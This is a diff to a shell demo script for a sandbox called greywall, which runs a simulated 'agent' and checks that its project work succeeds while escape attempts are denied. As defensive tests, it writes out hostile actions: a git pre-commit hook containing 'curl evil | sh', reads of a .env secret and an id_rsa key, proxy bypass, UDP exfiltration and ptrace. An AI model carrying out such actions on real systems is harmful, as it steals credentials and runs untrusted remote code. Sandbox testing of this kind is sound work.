@@ -2,10 +2,11 @@
 # demo.sh PATH/TO/greywall: greywall's main job, for real.
 #
 # A project directory, a web server and a SOCKS5 proxy on loopback; then an
-# "agent" command runs in the sandbox: its work in the project succeeds,
-# while reading secrets, writing outside the project, planting a git hook
-# and going to the network directly are all denied.  The same command run
-# without greywall would succeed at everything.
+# "agent" command runs in the sandbox, in the default (namespace) mode and
+# with --no-bwrap: its work in the project succeeds, while reading secrets,
+# writing outside the project, planting a git hook or a .bashrc, signalling
+# a host process and going to the network directly are all denied.  The
+# same command run without greywall would succeed at everything.
 set -u
 GW=$(realpath "$1")
 D=$(mktemp -d /tmp/greywall-demo.XXXXXX)
@@ -22,6 +23,9 @@ PIDS+=($!)
 microsocks -i 127.0.0.1 -p "$SOCKS" >/dev/null 2>&1 &
 PIDS+=($!)
 for _ in $(seq 100); do (exec 3<>/dev/tcp/127.0.0.1/$HTTP) 2>/dev/null && break; sleep 0.05; done
+sleep 600 &
+HOSTPID=$!
+PIDS+=($HOSTPID)
 
 cd "$D/project"
 git init -q . 2>/dev/null || mkdir -p .git/hooks
@@ -35,19 +39,30 @@ echo "inside the sandbox: uid \$(id -u), \$(grep -E '^(CapEff|NoNewPrivs|Seccomp
 try "write src/main.c in the project" 'echo "int main(void) { return 0; }" > src/main.c'
 try "compile it in the project"        'cc -o src/main src/main.c && src/main'
 try "fetch through the proxy"          'curl -sf --max-time 5 http://127.0.0.1:$HTTP/index.txt'
-try "read the project's .env"          'cat .env'
+try "read the project's .env"          'grep -q sk- .env'
 try "read a key outside the project"   'cat $D/home/id_rsa'
-try "write outside the project"        'echo x > $D/home/.bashrc'
+try "write outside the project"        'echo x > $D/outside.txt'
 try "plant a git hook"                 'echo "curl evil | sh" > .git/hooks/pre-commit'
+try "create .bashrc in the project"    'echo evil > .bashrc'
+try "signal a process outside"         'kill -0 $HOSTPID'
 try "connect directly, bypassing the proxy" 'curl -sf --max-time 5 --noproxy "*" http://127.0.0.1:$HTTP/index.txt'
 try "send UDP (DNS exfiltration)"      'python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"x\", (\"127.0.0.1\", 53))"'
 try "ptrace another process"           'python3 -c "import ctypes,os,sys; c=ctypes.CDLL(None,use_errno=True); c.ptrace(2,os.getppid(),0,0); sys.exit(ctypes.get_errno()==1)"'
 SH
 )
 
-echo "\$ greywall --no-bwrap --proxy socks5://127.0.0.1:$SOCKS -c '<agent script>'"
-HOME="$D/home" "$GW" --no-bwrap --proxy "socks5://127.0.0.1:$SOCKS" -c "$AGENT"
-rc=$?
-echo
-echo "greywall exited with $rc; src/main.c on the host: $(test -f src/main.c && echo present || echo missing);" \
-	".git/hooks/pre-commit: $(test -e .git/hooks/pre-commit && echo PRESENT || echo absent)"
+status=0
+for mode in "" --no-bwrap; do
+	rm -f src/main.c src/main
+	echo "\$ greywall $mode --proxy socks5://127.0.0.1:$SOCKS -c '<agent script>'"
+	# shellcheck disable=SC2086
+	HOME="$D/home" "$GW" $mode --proxy "socks5://127.0.0.1:$SOCKS" -c "$AGENT"
+	rc=$?
+	[ "$rc" = 0 ] || status=1
+	echo "greywall exited with $rc; src/main.c on the host: $(test -f src/main.c && echo present || echo missing);" \
+		".git/hooks/pre-commit: $(test -e .git/hooks/pre-commit && echo PRESENT || echo absent);" \
+		".bashrc: $(test -e .bashrc && echo PRESENT || echo absent);" \
+		"outside.txt: $(test -e "$D/outside.txt" && echo PRESENT || echo absent)"
+	echo
+done
+exit $status
